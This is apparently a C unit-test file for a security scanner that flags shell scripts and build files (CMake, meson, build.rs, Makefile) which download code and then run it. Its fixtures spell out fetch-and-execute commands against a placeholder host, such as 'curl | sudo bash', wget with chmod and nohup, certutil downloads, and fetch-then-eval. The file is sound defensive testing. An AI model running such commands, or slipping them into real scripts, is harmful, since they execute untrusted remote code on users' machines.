/* SPDX-License-Identifier: Apache-2.0 */
/*
 * builds, shell: what build files have programs do, and scripts that start what
 * they fetched.  Nothing is run.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/mem.h"
#include "base/str.h"
#include "inspect/builds.h"
#include "inspect/cmake.h"
#include "flow/shell.h"

#define AT "https://x.example.invalid/"

static const struct {
	const char	*text;
	bool		 runs;
} scripts[] = {
	{ "curl -s " AT "a | sh", true },
	{ "curl -s " AT "a | sudo bash -s -- -y", true },
	{ "curl -s " AT "a | jq .", false },
	{ "curl -so a " AT "a; bash ./a", true },
	{ "curl -so a " AT "a; bash ./b", false },
	{ "curl -so a " AT "a\ncat a", false },
	{ "wget -q " AT "k\nchmod +x k\nnohup ./k &", true },
	{ "wget -qO/tmp/k " AT "k && setsid /tmp/k", false },
	{ "/usr/bin/curl --output \"$T\" " AT "k\n\"$T\" &", true },
	{ "curl -s " AT "a.tgz | tar xz -C $D\n$D/a/run &", true },
	{ "curl -s " AT "a.tgz | tar xz -C $D\n$D/a/run", false },
	{ "curl -o a " AT "a\nsha256sum -c sums\nsh a", false },
	{ "curl -o a $URL\nsh a", false },
	{ "curl -s http://localhost:8080/a | sh", false },
	{ "sh -c 'curl -s " AT "a | sh'", true },
	{ "certutil -urlcache -f " AT "a.exe a.exe\r\nstart /b a.exe", true },
	{ "", false }, { "|", false }, { "curl", false }, { "\"", false },
};

static void
starts_what_it_fetched(void **state)
{
	size_t at;

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(scripts); i++)
		if (shell_runs_fetched(NULL, scripts[i].text,
		    strlen(scripts[i].text), &at) != scripts[i].runs)
			fail_msg("%s", scripts[i].text);
}

static const struct {
	const char	*text;
	bool		 script;
} texts[] = {
	{ "#!/bin/sh\nexec \"$@\"\n", true },
	{ "#!/usr/bin/env python3\nprint(1)\n", false },
	{ "@echo off\r\nstart a\r\n", true },
	{ "set -e\nD=$(mktemp -d)\ncd $D\n", true },
	{ "To install it, run\n  curl -s " AT "a | sh\n  cd a\nas root.\n"
	    "Then begin again.\n", false },
	{ "fetch(u).then(t => eval(t))", true },
	{ "fetch the answer", false },
	{ "", false },
};

static void
tells_scripts(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(texts); i++)
		if (shell_is_script(texts[i].text, strlen(texts[i].text)) !=
		    texts[i].script)
			fail_msg("%s", texts[i].text);
}

static const struct {
	const char	*path, *text, *commands;
} builds[] = {
	{ "CMakeLists.txt", "set(H \"${D}/h\")\n# no\nfile(DOWNLOAD \"" AT
	    "h\" \"${H}\")\nexecute_process(COMMAND sh \"${H}\" OUTPUT_QUIET)",
	    "curl -o ${D}/h " AT "h\n\nsh ${D}/h \n\n" },
	{ "a.cmake", "file(DOWNLOAD " AT "h h EXPECTED_HASH SHA256=0)", "" },
	{ "a.cmake", "ExternalProject_Add(x BUILD_COMMAND sh t.sh "
	    "INSTALL_COMMAND \"\")", "\nsh t.sh \n \n" },
	{ "meson.build", "c = find_program('curl')\nrun_command(c, '-o', 'a', "
	    "'u')\n", "curl -o a u \n" },
	{ "build.rs", "Command::new(\"curl\").args([\"-o\", p.to_str()]).run();"
	    "\nCommand::new(\"sh\").arg(&p);", "curl -o p \nsh p \n" },
	{ "Makefile", "V = 1\nall:\n\t@-curl a; \\\n\tsh b\n", "curl a; sh b\n" },
	{ "Makefile", "\t", "\n" }, { "CMakeLists.txt", "file(", "" },
	{ "CMakeLists.txt", "execute_process(COMMAND \"a", "\na \n" },
	{ "meson.build", "run_command('", "  \n" },
	/* a word that ends with the text */
	{ "Makefile", "curl -o a " AT "a; $pyt", "" },
	{ "build.rs", "Command::new(\"\\", "\\ \n" },
};

static const struct {
	const char	*text, *left;
} blanks[] = {
	{ "# a\nset(A b) # c\n \t# d", "   \nset(A b) # c\n \t   " },
	{ "set(A \"\\\"\n# b\")\n# c", "set(A \"\\\"\n# b\")\n   " },
	{ "set(A [==[ \" ]=]\n# ]==])\n# c", "set(A [==[ \" ]=]\n# ]==])\n   " },
	{ "#[[ a\n# b ]]\n# c", "#[[ a\n# b ]]\n   " },
	{ "a[1]\n# b[", "a[1]\n    " },
	{ "\\", "\\" }, { "\"\\", "\"\\" }, { "[=", "[=" }, { "[[]", "[[]" },
};

static void
blanks_comments(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(blanks); i++) {
		size_t len = strlen(blanks[i].text);

		/* Cut anywhere, in memory that ends there. */
		for (size_t n = 0; n <= len; n++) {
			uint8_t *exact = mem_array(n != 0 ? n : 1, 1), *left;

			memcpy(exact, blanks[i].text, n);
			left = cmake_blank(exact, n);
			if (n == len)
				assert_memory_equal(left, blanks[i].left, n);
			free(left);
			free(exact);
		}
	}
}

static void
writes_commands(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(builds); i++) {
		size_t len = strlen(builds[i].text);

		/* Cut anywhere, in memory that ends there. */
		for (size_t n = 0; n <= len; n++) {
			uint8_t *exact = mem_array(n != 0 ? n : 1, 1);
			struct buf out = BUF_EMPTY;
			size_t at;

			memcpy(exact, builds[i].text, n);
			builds_commands(&(struct view){ .path =
			    builds[i].path, .data = exact, .size = n }, &out);
			(void)shell_runs_fetched(NULL, (const char *)exact, n,
			    &at);
			(void)shell_is_script((const char *)exact, n);
			if (n == len && builds[i].commands[0] != ' ' &&
			    builds[i].commands[0] != '\\')
				assert_string_equal(buf_text(&out),
				    builds[i].commands);
			buf_release(&out);
			free(exact);
		}
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(starts_what_it_fetched),
		cmocka_unit_test(tells_scripts),
		cmocka_unit_test(writes_commands),
		cmocka_unit_test(blanks_comments),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
